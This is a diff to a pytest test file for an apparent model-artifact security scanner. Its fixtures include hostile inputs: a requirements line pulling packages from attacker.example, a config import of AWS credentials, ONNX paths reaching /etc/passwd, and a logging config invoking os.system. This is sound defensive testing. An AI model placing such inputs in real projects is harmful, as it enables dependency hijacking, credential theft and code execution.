@@ -112,7 +112,10 @@ class=FileHandler
 args=('%(logfile)s', 'a')
 [handler_rot]
 class=handlers.RotatingFileHandler
-args=('app.log', 'a', 1000000, 3)
+args=('app.log', 'a', 50*1024*1024, 3)
+[handler_timed]
+class=logging.handlers.TimedRotatingFileHandler
+args=('./log/app.log', 'midnight', 1, 30)
 kwargs={'encoding': 'utf-8'}
 [formatter_plain]
 format=%(asctime)s %(levelname)s %(message)s
@@ -123,6 +126,7 @@ logfile=app.log
 """
 BENIGN_DICT_CONFIG = {"version": 1, "disable_existing_loggers": False,
                       "formatters": {"plain": {"format": "%(message)s"},
+                                     "uvicorn": {"()": "uvicorn.logging.DefaultFormatter", "fmt": "%(message)s"},
                                      "custom": {"()": "logging.Formatter", "fmt": "%(message)s"}},
                       "filters": {"f": {"name": "app"}},
                       "handlers": {"console": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout",
@@ -429,3 +433,68 @@ def test_confection_registry_references(tmp_path: Path) -> None:
     custom = SPACY + '[corpora.train]\n@readers = "attacker_pkg.evil_reader.v1"\n'
     verdict, top, titles = _scan(tmp_path, "config.cfg", custom)
     assert top is Severity.LOW and any("attacker_pkg" in t for t in titles), titles
+
+
+# --- requirements under another name (TorchServe's ``requirementsFile``, ``-r deps.txt``) --------------------
+
+def _mar(requirements_name: str, requirements: str) -> bytes:
+    manifest = {"runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler":
+                "image_classifier", "requirementsFile": requirements_name}, "archiverVersion": "0.9.0"}
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as archive:
+        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
+        archive.writestr(requirements_name, requirements)
+    return buf.getvalue()
+
+
+@pytest.mark.parametrize("name", ["deps.txt", "pip-deps", "extra.in"])
+def test_requirements_under_another_name(tmp_path: Path, name: str) -> None:
+    text = "torch==2.1.0\nPillow>=10\n--extra-index-url https://attacker.example/simple\n"
+    assert _scan(tmp_path, name, text)[1] is Severity.HIGH
+    verdict, top, titles = _scan(tmp_path, "model.mar", _mar(name, "torchvision==0.16\ngit+https://x.example/p.git\n"))
+    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles
+
+
+@pytest.mark.parametrize("text", ["cat\ndog\nbird\n", "torch==2.1.0\nPillow>=10\n", "see https://example.com\n",
+                                  "label one\nlabel two\n"])
+def test_label_and_pinned_lists_under_other_names_stay_safe(tmp_path: Path, text: str) -> None:
+    verdict, top, titles = _scan(tmp_path, "labels.txt", text)
+    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
+
+
+def test_jsonnet_import_in_a_json_config(tmp_path: Path) -> None:
+    text = '{"model": import "../../../home/user/.aws/credentials.json", "code": "import \'os\'"}'
+    assert _scan(tmp_path, "config.json", text)[1] is Severity.HIGH
+    benign = '{"model": {"type": "basic"}, "doc": "from x import \'y\'"}'
+    verdict, top, titles = _scan(tmp_path, "config.json", benign)
+    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
+
+
+def test_tflite_without_identifier_under_another_name(tmp_path: Path) -> None:
+    """The interpreter does not insist on the TFL3 identifier: unrecognised data listing Flex file ops is judged."""
+    result = scan_file(_write(tmp_path, "weights.bin", _tflite([(ADD, None), (CUSTOM, "FlexWriteFile")],
+                                                                 identifier=False)))
+    assert result.format is ArtifactFormat.TFLITE and result.max_severity is Severity.HIGH
+    benign = scan_file(_write(tmp_path, "noise.bin", bytes(range(256)) * 64))
+    assert benign.verdict is Verdict.SAFE
+
+
+def _write(tmp_path: Path, name: str, data: bytes) -> Path:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return path
+
+
+@pytest.mark.parametrize("text", [
+    'ir_version: 8\ngraph { initializer { name: "w" external_data { value: ".." "/secret.bin" key: \'location\' } } }',
+    "ir_version: 8\ngraph { initializer { external_data < key: \"loc\" 'ation' value: '\\x2e./s.bin' > } }",
+    'ir_version: 8 # "x"\ngraph { initializer { external_data: { key: "location" value: "/etc/passwd" } } }',
+])
+def test_onnx_textproto_strings_concatenated_reordered_escaped(tmp_path: Path, text: str) -> None:
+    assert _scan(tmp_path, "model.textproto", text)[1] is Severity.HIGH
+
+
+@pytest.mark.parametrize("version", ["1.0", "true", "1e0"])
+def test_dict_config_version_spelled_otherwise(tmp_path: Path, version: str) -> None:
+    text = f'{{"version": {version}, "handlers": {{"h": {{"class": "os.system", "command": "id"}}}}}}'
+    assert _scan(tmp_path, "logging.json", text)[1] is Severity.CRITICAL
